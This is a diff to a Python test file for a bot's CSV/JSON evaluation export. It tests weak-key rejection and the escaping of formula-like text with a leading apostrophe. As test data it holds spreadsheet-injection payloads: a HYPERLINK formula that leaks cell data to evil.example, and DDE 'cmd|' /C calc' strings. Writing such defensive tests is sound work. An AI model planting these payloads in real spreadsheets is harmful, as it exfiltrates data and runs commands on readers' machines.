@@ -6,14 +6,15 @@ import hmac
 import io
 import json
 import zipfile
-from datetime import date, datetime
+from datetime import date, datetime, timedelta
 
 import pytest
 
 from bot.core.errors import DomainError, PermissionDeniedError
 from bot.core.evaluation.errors import MissingExportKeyError, UnknownChoiceError
-from bot.core.evaluation.exports import DICTIONARY_HEADER, ExportFormat, ExportKind
+from bot.core.evaluation.exports import CSV_TEXT_NOTE, DICTIONARY_HEADER, ExportFormat, ExportKind, neutralise, to_csv
 from bot.core.evaluation.pseudonyms import pseudonym
+from bot.core.participants.domain import ProfileUpdate
 from bot.core.storage.state import SqlAuditRepository
 from tests.core.evaluation.conftest import (
     ADMIN,
@@ -26,6 +27,7 @@ from tests.core.evaluation.conftest import (
     GUILD,
     NAMES,
     OTHER_KEY,
+    REPORT_AT,
     RESOURCE_URL,
     STORY_TEXT,
     World,
@@ -81,16 +83,29 @@ def check_value(kind: str, value: str) -> None:
         assert kind == "string"
 
 
+WEAK_KEYS = (
+    "too-short",
+    "z" * 48,  # long enough, one character
+    "abcabcabcabcabcabcabcabcabcabcabcabc",  # a pattern
+    "Correct horse battery staple, our programme key!",  # a phrase of words
+    "ourprogrammeexportkeyforblethertwentytwentysix",  # words run together
+)
+
+
 async def test_without_an_export_key_the_error_says_how_to_make_and_set_one(world: World) -> None:
-    """No key (or a short one) raises a DomainError naming BLETHER_EXPORT_KEY, the generator, .env and a restart."""
-    for key in ("", "   ", "too-short"):
+    """No key, or one too easy to guess, raises a DomainError naming BLETHER_EXPORT_KEY, the generator, .env and a
+    restart; no export is made."""
+    for key in ("", "   ", *WEAK_KEYS):
         with pytest.raises(MissingExportKeyError) as caught:
             await world.service(key).export(FACILITATOR, "responses")
         message = str(caught.value)
         assert isinstance(caught.value, DomainError)
         assert "BLETHER_EXPORT_KEY" in message
-        assert 'python3 -c "import secrets; print(secrets.token_hex(32))"' in message
+        assert 'python -c "import secrets; print(secrets.token_urlsafe(32))"' in message
         assert ".env" in message and "restart" in message
+        assert ("too easy to guess" in message) == bool(key.strip())
+    async with world.database.unit_of_work() as uow:
+        assert await uow.repo(SqlAuditRepository).list(guild_id=GUILD, action="evaluation_export") == []
 
 
 async def test_exports_need_a_facilitator_and_known_choices(world: World) -> None:
@@ -307,3 +322,69 @@ async def test_readme_explains_pseudonyms_layout_and_care(world: World) -> None:
     assert "one row per person x session x question" in readme
     assert "current evaluation consent is yes" in readme
     assert "not small-number suppressed" in readme
+
+
+FORMULAS = {
+    "q2": '=HYPERLINK("https://evil.example/?leak="&A1,"click")',
+    "q3": "+1+cmd|' /C calc'!A0",
+    "q4": "-2+3",
+}
+FORMULA_CHARACTERS = ("=", "+", "-", "@", "\t", "\r")
+
+
+async def test_no_csv_cell_from_user_text_starts_with_a_formula_character(world: World) -> None:
+    """Answers, stories, resources and communities typed as formulas are written with a leading ' in every CSV
+    (a CSV reader sees no cell starting with = + - @ tab or CR); dropping the ' gives the text back; JSON keeps it."""
+    session = world.sessions[-1]
+    world.clock.set(session.ends_at + timedelta(hours=2))
+    await world.reflections.submit_reflection(person(9), session.id, {"q1": "4", **FORMULAS, "q5": False})
+    await world.flash.share_story(person(1), "@SUM(1+1)*cmd|' /C calc'!A0")
+    await world.flash.share_resource(person(2), "https://example.org/sheet", "\t=1+1", "\r=2+2")  # stored stripped
+    await world.participants.update_profile(person(1), ProfileUpdate(community="-Leith+1"))
+    world.clock.set(REPORT_AT)
+
+    files = await export_all(world)
+    cells: list[str] = []
+    for name, data in files.items():
+        if name.endswith(".csv"):
+            cells.extend(cell for row in csv.reader(io.StringIO(data.decode("utf-8"), newline="")) for cell in row)
+    assert len(cells) > 1000
+    assert [cell for cell in cells if cell.startswith(FORMULA_CHARACTERS)] == []
+
+    _, responses = read_csv(files["responses.csv"])
+    mine = {
+        r["question_id"]: r["answer_text"] for r in responses if r["pseudonym"] == pseudonym(EXPORT_KEY, GUILD, uid(9))
+    }
+    assert {q: mine[q] for q in FORMULAS} == {q: "'" + text for q, text in FORMULAS.items()}
+    _, resources = read_csv(files["resources.csv"])
+    assert ("'=1+1", "'=2+2") in {(r["title"], r["note"]) for r in resources}
+    _, people = read_csv(files["participants.csv"])
+    assert "'-Leith+1" in {r["community"] for r in people}
+    _, stories = read_csv(files["stories.csv"])
+    assert "'@SUM(1+1)*cmd|' /C calc'!A0" in {r["story_text"] for r in stories}
+
+    as_json = await export_all(world, "json")
+    records = json.loads(as_json["responses.json"])
+    assert FORMULAS["q2"] in {r["answer_text"] for r in records}
+
+
+def test_only_text_cells_are_neutralised_and_the_apostrophe_rule_round_trips() -> None:
+    """Numbers (negative ones too) stay numeric; text starting with a formula character or ' gets one more '."""
+    data = to_csv(["a", "b", "c", "d", "e"], [(-3, -2.5, "-3", "'tis", "plain")])
+    (_, row) = list(csv.reader(io.StringIO(data.decode("utf-8"), newline="")))
+    assert row == ["-3", "-2.5", "'-3", "''tis", "plain"]
+    for text in ["=1", "'=1", "''", "'", "tis", "-", "@x", "\tx", "\rx", "a=b"]:
+        written = neutralise(text)
+        assert not written.startswith(FORMULA_CHARACTERS)
+        assert (written[1:] if written.startswith("'") else written) == text
+
+
+async def test_the_dictionary_and_readme_explain_the_apostrophe(world: World) -> None:
+    """Every text column of a CSV export says how formula-like text is written; README.txt says how to undo it."""
+    files = await export_all(world)
+    for entry in dictionary(files):
+        assert (CSV_TEXT_NOTE in entry["description"]) == (entry["type"] == "string")
+    readme = files["README.txt"].decode()
+    assert "starts with one more apostrophe" in readme and "drop that first apostrophe" in readme
+    json_entries = dictionary(await export_all(world, "json"))
+    assert not any(CSV_TEXT_NOTE in e["description"] for e in json_entries)
